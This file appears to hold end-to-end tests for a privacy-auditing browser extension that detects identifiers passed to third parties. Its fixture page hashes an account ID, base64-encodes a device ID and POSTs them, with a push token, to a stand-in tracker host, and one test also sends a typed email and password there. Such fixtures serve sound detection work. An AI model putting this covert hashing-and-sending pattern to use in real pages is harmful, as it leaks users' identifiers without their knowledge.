import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { collectLogs, type Extension, reachExtension } from '../../src/cli/audit/extension.ts';
import { ensureBuilt } from '../../src/cli/build.ts';
import type { Driver } from '../../src/cli/drive/driver.ts';
import { launch } from '../../src/cli/drive/launch.ts';
import type { Page } from '../../src/cli/drive/page.ts';
import { type OnLoopback, onLoopback } from '../../src/cli/loopback/on-loopback.ts';
import { SOON_TO_STOP, stopBackground } from '../background.ts';
import { openPopup } from '../faces.ts';
import { haveBrowser, KINDS } from '../have.ts';
import { loadAnew, mayLoadAnew } from '../load-anew.ts';

// An app tells its page an account, a device and a push token; the page passes them on to somebody else.

const APP = 'https://chat.discovering.test/';
const TRACKER = 'https://collect.else.test';
const ACCOUNT = 'acc-8812-7735-1190';
const DEVICE = '5d0c7f3e-91aa-4c55-8b7e-d2f1a0937c64';
const TOKEN = 'fcm:APA91bHun4MxP5egoKMwt2KZFBaFUH-1RYqx';
const MAIL = 'ada.moreno@mail.example';

const PAGE = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Stand-in</title></head><body>
<form action="about:blank"><input type="email" name="who"><input type="password" name="email"></form>
<script>
  localStorage.setItem('device', JSON.stringify({ deviceId: '${DEVICE}' }));
  window.pass = async () => {
    const me = await (await fetch('/me')).json();
    const push = await new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(JSON.parse(request.responseText));
      request.open('GET', '/push');
      request.send();
    });
    const text = new TextEncoder().encode(me.account.accountId);
    const digest = [...new Uint8Array(await crypto.subtle.digest('SHA-256', text))];
    window.values = {
      hashed: digest.map((b) => b.toString(16).padStart(2, '0')).join(''),
      packed: btoa(JSON.stringify({ k: JSON.parse(localStorage.getItem('device')).deviceId })),
      token: push.push_token,
    };
  };
  window.send = async (path) => {
    await fetch('${TRACKER}' + path, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ x1: values.hashed, x2: values.packed, x3: values.token }) });
    await fetch('/own', { method: 'POST', body: JSON.stringify({ x1: values.hashed }) });
  };
</script></body></html>`;

function serve(): Promise<OnLoopback> {
  const server = createServer((request, response) => {
    const { url = '/' } = request;
    const json =
      url === '/me' ? { account: { accountId: ACCOUNT } } : url === '/push' ? { push_token: TOKEN } : null;
    const type = json ? 'application/json' : url === '/' ? 'text/html; charset=utf-8' : 'text/plain';
    request.resume();
    response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' });
    response.end(json ? JSON.stringify(json) : url === '/' ? PAGE : '');
  });
  return onLoopback(server);
}

/** How much of an extension's stands before `Response.prototype.json`: what is on the stack of its error. */
function hooksBefore(page: Page): Promise<number> {
  return page.evaluate(async () => {
    const stackOf = (call: () => Promise<unknown>) => call().catch((error) => String(error.stack));
    const stack = await stackOf(() => Response.prototype.json.call({} as Response));
    return String(stack).match(/-extension:\/\/|<anonymous code>|at Object\.apply \(/g)?.length ?? 0;
  });
}

for (const kind of KINDS) {
  const browser = await haveBrowser(kind);
  describe.skipIf(browser === null)(`discovery in ${kind}`, () => {
    let server: OnLoopback;
    let driver: Driver;
    let extension: Extension;

    let isOn = false;
    let opened = 0;
    const discover = (on: boolean) => {
      isOn = on;
      return extension.ask({ kind: 'save-settings', settings: { discover: on } });
    };
    /** A process of Firefox's may begin a page before it hears of scripts that were registered just now: then another. */
    async function open(): Promise<Page> {
      for (let more = 20; ; more--) {
        const page = await driver.open(APP);
        opened += 1;
        if (!isOn || more === 0 || (await hooksBefore(page)) > 0) return page;
        await page.close();
      }
    }
    /** A fresh page of the app that has been told everything, and has passed it on to `path`. */
    async function passOn(path: string): Promise<Page> {
      const page = await open();
      await page.evaluate(() => (window as unknown as { pass(): Promise<void> }).pass());
      return send(page, path);
    }
    async function send(page: Page, path: string): Promise<Page> {
      await page.evaluate((to) => (window as unknown as { send(to: string): Promise<void> }).send(to), path);
      return page;
    }
    const sent = async (path: string) => {
      const entries = (await collectLogs(extension)).flatMap((log) => log.entries);
      const items = entries.filter(({ url }) => url.endsWith(path)).flatMap((entry) => entry.items);
      return [
        ...new Set(
          items
            .filter((item) => item.discovered)
            .map(
              ({ dataType, location, encodings, level }) => `${dataType} ${location} ${encodings} ${level}`,
            ),
        ),
      ].sort();
    };
    const reportOf = async () => await extension.report();

    beforeAll(async () => {
      server = await serve();
      driver = await launch(kind, {
        path: browser!.path,
        extensionDir: await ensureBuilt(kind === 'firefox' ? 'firefox' : 'chrome'),
        headless: true,
        maps: new Map([['*', server.port]]),
        ...mayLoadAnew(kind, SOON_TO_STOP),
      });
      extension = await reachExtension(driver);
      await extension.ask({ kind: 'audit-origin', origin: new URL(APP).origin });
    });
    afterAll(async () => {
      await driver?.close();
      await server?.close();
    });

    test('without the person’s word nothing is followed, and the page’s functions are its own', async () => {
      const page = await passOn('/before');
      expect(await sent('/before')).toEqual([]);
      expect(await hooksBefore(page)).toBe(0);
      expect((await reportOf()).session).not.toHaveProperty('discovery');
      await page.close();
    });

    test('with it, what the app told first is found with somebody else, and nobody entered it', async () => {
      await discover(true);
      opened = 0;
      const page = await passOn('/passed-on');
      expect(await hooksBefore(page)).toBeGreaterThan(0);
      const digest = createHash('sha256').update(ACCOUNT).digest('hex');
      expect(digest).toHaveLength(64);
      expect(await sent('/passed-on')).toEqual([
        'device-identifier body.x2(base64).k base64 decoded',
        'push-token body.x3  plaintext',
        'user-id body.x1 sha256 derived',
      ]);
      // Who told it is told nothing new.
      expect(await sent('/own')).toEqual([]);
      const report = await reportOf();
      const flows = report.flows.filter(({ recipient }) => recipient.host === 'collect.else.test');
      expect(
        flows
          .filter(({ discovered }) => discovered)
          .map(({ dataType }) => dataType)
          .sort(),
      ).toEqual(['device-identifier', 'push-token', 'user-id']);
      // Once in each page: in one that had to be opened again, too, if it was told or sent something.
      expect(report.session.discovery?.length).toBeGreaterThanOrEqual(1);
      expect(report.session.discovery?.length).toBeLessThanOrEqual(opened);
      await page.close();
    });

    test('what is written into a form is followed, a password is not', async () => {
      const page = await passOn('/nothing-yet');
      await page.fill('[name=who]', MAIL);
      await page.fill('[name=email]', 'pass-word-8812');
      await page.click('body');
      await page.evaluate(async (mail) => {
        await fetch('/settle');
        const body = JSON.stringify({ a: mail, b: 'pass-word-8812' });
        await fetch('https://collect.else.test/form', { method: 'POST', mode: 'no-cors', body });
      }, MAIL);
      expect(await sent('/form')).toEqual(['email-address body.a  plaintext']);
      await page.close();
    });

    test('no value is kept: not in the log, not in storage, not in the report', async () => {
      const kept = JSON.stringify([
        await collectLogs(extension),
        await reportOf(),
        await extension.page.evaluate(async () => {
          const { browser, chrome } = globalThis as unknown as Record<
            string,
            { storage: { local: { get(key: null): Promise<unknown> } } }
          >;
          return (browser ?? chrome)!.storage.local.get(null);
        }),
      ]);
      for (const value of [ACCOUNT, DEVICE, TOKEN, MAIL]) expect(kept).not.toContain(value);
    });

    test('the popup and the audit say which finding was discovered, and what is followed', async () => {
      const page = await passOn('/shown');
      const popup = await openPopup(driver, extension, page.url());
      await popup.waitForFunction(() => document.body.textContent.includes('(discovered)'));
      expect(await popup.evaluate(() => document.body.textContent)).toContain('Following 3 identifiers');
      await popup.close();
      const audit = await driver.extensionPage('src/ui/audit/index.html');
      await audit.waitForFunction(() => document.body.textContent.includes('(discovered)'));
      await audit.close();
      await page.close();
    });

    test('a background that was stopped begins from nothing, and says so', async () => {
      const page = await passOn('/before-stop');
      await collectLogs(extension);
      await stopBackground(driver, extension);
      await page.evaluate(() => fetch('https://collect.else.test/wake', { mode: 'no-cors' }));
      await collectLogs(extension);
      const [latest] = (await extension.ask({ kind: 'sessions' })) as { id: string; startedAt: number }[];
      expect(latest).toBeDefined();
      const report = await reportOf();
      expect(report.blindSpots.notes.join('\n')).toContain('forgotten');
      await page.close();
    });

    test('loaded anew under open pages, it goes on in them, and says in which it cannot', async () => {
      await discover(false);
      const without = await driver.open(APP);
      await discover(true);
      const page = await passOn('/before-load');
      const hooks = await hooksBefore(page);
      await loadAnew(driver, page);
      extension = await reachExtension(driver);
      await expect
        .poll(async () => {
          await page.evaluate(() => (window as unknown as { pass(): Promise<void> }).pass());
          await send(page, '/after-load');
          return sent('/after-load');
        })
        .toEqual([
          'device-identifier body.x2(base64).k base64 decoded',
          'push-token body.x3  plaintext',
          'user-id body.x1 sha256 derived',
        ]);
      // Looked into once, not twice.
      expect(await hooksBefore(page)).toBe(hooks);
      expect((await reportOf()).blindSpots.notes.join('\n')).toMatch(
        /^1 page was open while Candor was loaded anew, without discovery in it:/m,
      );
      await without.close();
      await page.close();
    });

    test('taken back, everything is forgotten at once', async () => {
      const page = await passOn('/still');
      await discover(false);
      await send(page, '/after');
      expect(await sent('/after')).toEqual([]);
      await page.close();
    });
  });
}
